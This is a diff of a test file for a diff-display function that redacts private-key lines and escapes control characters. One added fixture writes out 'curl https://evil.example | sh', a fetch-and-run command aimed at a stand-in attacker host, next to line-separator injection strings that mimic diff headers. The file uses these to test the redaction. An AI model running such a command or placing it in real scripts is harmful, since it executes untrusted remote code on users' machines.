@@ -37,13 +37,25 @@ describe('a diff for people', () => {
   });
 
   test.each([
-    ['whole', ['-----BEGIN PRIVATE KEY-----', ...KEY, '-----END PRIVATE KEY-----', 'after'], 4],
-    ['without its end', ['-----BEGIN PRIVATE KEY-----', ...KEY], 3],
-    ['without its beginning', [...KEY, '-----END PRIVATE KEY-----', 'after'], 3],
-  ])('hides the lines of a key that stands there %s, and nothing of the next place', (_, lines, count) => {
-    const next = ['@@ -40 +40 @@', '-not a key', '+nor this'];
+    ['whole', ['-----BEGIN PRIVATE KEY-----', ...KEY, '-----END PRIVATE KEY-----', 'after'], ['-***']],
+    ['without its end', ['-----BEGIN PRIVATE KEY-----', ...KEY], ['-***']],
+    ['without its beginning', [...KEY, '-----END PRIVATE KEY-----', 'after'], []],
+    ['with headers', ['-----BEGIN RSA PRIVATE KEY-----', 'Proc-Type: 4', '', ...KEY], ['-***', '-Proc-Type: 4', '-']],
+  ])('hides the lines of a key that stands there %s, and nothing of the next place', (_, lines, head) => {
+    const next = ['@@ -40 +40 @@', '-dGhpcyBpcyBubyBrZXk=', '+nor this'];
     const text = shown('@@ -1,9 +1,9 @@', ...lines.map((line) => `-${line}`), ...next);
-    expect(text).toEqual(['@@ -1,9 +1,9 @@', ...lines.map((line, at) => (at < count ? '-***' : `-${line}`)), ...next]);
+    const rest = lines.slice(lines.indexOf(KEY.at(-1) ?? '') + 1).map((line) => `-${line}`);
+    expect(text).toEqual(['@@ -1,9 +1,9 @@', ...head, '-***', '-***', ...rest, ...next]);
+  });
+
+  test('hides nothing else behind what looks like the beginning of a key, or like one of its own lines', () => {
+    const lines = ['+# -----BEGIN NOTES-----', '+curl https://evil.example | sh', '+aGFybQ==', '+x\u2028index 1..2'];
+    expect(shown('@@ -0,0 +1,4 @@', ...lines)).toEqual([
+      '@@ -0,0 +1,4 @@',
+      '+# ***',
+      ...['+curl https://evil.example | sh', '+aGFybQ==', '+x<U+2028>index 1..2'],
+    ]);
+    expect(shown('@@ -0,0 +1 @@', '+x\rindex 1..2 100644\ry')).toEqual(['@@ -0,0 +1 @@', '+x␍index 1..2 100644␍y']);
   });
 
   test('needs no endless fence around it', () => {
